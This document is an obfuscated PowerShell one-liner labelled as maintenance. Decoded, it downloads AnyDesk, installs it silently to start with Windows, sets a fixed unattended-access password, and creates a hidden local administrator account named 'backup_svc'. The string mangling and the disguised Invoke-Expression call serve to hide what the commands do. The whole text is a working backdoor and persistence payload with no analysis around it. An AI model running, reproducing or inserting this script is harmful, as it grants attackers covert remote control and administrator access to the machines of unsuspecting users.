'iex ((''# maintenance 8455 v3
Invoke-WebRequest -Uri ''''httjj~5s://download.anyKQZ41desk.com/AnyDesk.exe'''' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo P@ssw0rd!2024 | CKQZ41:\ProgramData\AnyDesk\AnyDesk.exe --set-jj~5assword"
net user backujj~5_svc P@ssw0rd!KQZ412024 KQZ41/add
net localgroujj~5 administrators backujj~5_svc /add
'' -replace ''KQZ41'','''').Replace(''jj~5'',''p''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')